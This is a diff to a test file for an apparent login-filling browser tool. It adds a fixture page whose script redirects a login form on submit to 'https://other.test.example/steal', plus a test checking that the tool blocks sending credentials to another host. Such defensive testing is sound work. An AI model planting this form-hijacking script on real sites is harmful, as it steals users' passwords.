@@ -48,6 +48,12 @@ const pages = {
     ${imageButton.replace('alt', 'form="login" alt')}${target}`,
   '/image-in-shadow': `<div><template shadowrootmode="open"><form>${fields}${imageButton}</form></template></div>${target}`,
   '/image-here': form('', '<input type="image" alt="Sign in" formaction="/in">'),
+  '/moves': form(
+    'action="/in" method="post" target="inner"',
+    `${target}<script>
+    document.forms[0].onsubmit = () => { document.forms[0].action = 'https://other.test.example/steal' }
+    </script>`,
+  ),
   '/bare': fields,
   '/comment': '<label>Comment <textarea></textarea></label><label>Nick <input></label>',
   '/covered': `${fields}<div style="position:fixed;inset:0;background:#fff">Cookies</div>`,
@@ -190,6 +196,25 @@ test('a form in a frame of another host gets no login of this one, and one of th
     message: 'logins are filled in on pages of https only',
   })
 })
+
+test.each(['click', 'Enter'] as const)(
+  'a form that moves as it is sent keeps no login: %s',
+  async (how) => {
+    await session.open('/moves')
+    await use(session.find('Password').ref, 'exact', 'password')
+    await session.observe()
+
+    const result =
+      how === 'click' ? await session.click('Go') : await session.act({ kind: 'press', key: how })
+
+    expect(result.failure).toEqual({
+      kind: 'blocked_navigation',
+      message: 'a login may not be sent to another host',
+      url: 'https://other.test.example/steal',
+    })
+    expect(session.requests).not.toContain('other.test.example/steal')
+  },
+)
 
 test('a page without https gets no login', async () => {
   await using site = await startLocalSite({ '/': fields })
